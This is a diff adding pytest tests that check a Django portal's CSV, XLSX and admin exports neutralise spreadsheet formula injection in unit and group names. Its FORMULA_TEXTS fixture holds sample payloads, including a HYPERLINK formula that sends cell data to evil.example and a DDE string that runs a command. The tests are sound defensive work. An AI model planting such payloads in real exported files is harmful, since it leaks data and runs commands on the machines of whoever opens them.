@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import unicodedata
 
@@ -340,3 +341,59 @@ def test_import_command_refuses_a_bad_file_and_saves_a_good_one(tmp_path):
     out = io.StringIO()
     call_command("importrecipients", "units", str(good), stdout=out)
     assert "2 new" in out.getvalue() and Unit.objects.count() == 2
+
+
+FORMULA_TEXTS = {
+    "name": '=HYPERLINK("http://evil.example/?"&B2,"Sở")',
+    "short_name": "@SUM(1+1)",
+    "head_title": "+cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_keep_formula_like_text_as_text_and_import_it_back(fmt):
+    _province()
+    UnitFactory(code="XAU", kind="other", **FORMULA_TEXTS)
+    before = snapshot()
+    data = units_export(format=fmt)
+    if fmt == "xlsx":
+        cells = [c for row in openpyxl.load_workbook(io.BytesIO(data)).active for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        assert set(FORMULA_TEXTS.values()) <= {c.value for c in cells}
+    else:
+        values = [v for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in line]
+        assert [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+        assert {"'" + text for text in FORMULA_TEXTS.values()} <= set(values)
+    # The portal's own file comes back unchanged: the apostrophe is not part of the name.
+    report = units_import(data=data, format=fmt, dry_run=False)
+    assert report.ok, report.error_lines()
+    assert report.unchanged == 6 and snapshot() == before
+
+
+def test_group_export_keeps_formula_like_text_as_text():
+    RecipientGroupFactory(name="=1+1", code="nhom-cong-thuc")
+    values = [
+        v
+        for line in csv.reader(io.StringIO(groups_export(format="csv").decode("utf-8-sig")))
+        for v in line
+    ]
+    assert "'=1+1" in values and "=1+1" not in values
+    cells = [
+        c
+        for row in openpyxl.load_workbook(io.BytesIO(groups_export(format="xlsx"))).active
+        for c in row
+    ]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+
+
+def test_admin_export_keeps_formula_like_text_as_text(client, administrator):
+    UnitFactory(code="XAU", **FORMULA_TEXTS)
+    client.force_login(administrator)
+    response = client.post(
+        reverse("admin:recipients_unit_export"),
+        {"format": "1", "resource": "0", "unitresource_code": "on", "unitresource_name": "on"},
+    )
+    assert response.status_code == 200
+    cells = [c for row in openpyxl.load_workbook(io.BytesIO(response.content)).active for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert FORMULA_TEXTS["name"] in {c.value for c in cells}
